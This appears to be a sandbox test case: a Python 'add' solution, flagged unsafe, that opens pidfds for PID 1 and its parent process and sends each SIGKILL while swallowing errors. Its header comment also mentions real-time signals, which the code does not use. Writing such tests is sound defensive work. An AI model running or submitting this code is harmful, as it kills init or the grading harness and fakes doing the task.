# problem: add
# verdict: wrong_answer | runtime_error | crashed | blocked | exited
# why: Real-time signals with data, and pidfd_send_signal, to process 1.
# unsafe: true
import os
import signal


def add(a, b):
    try:
        for pid in (1, os.getppid()):
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
    except (OSError, AttributeError):
        pass
    return None
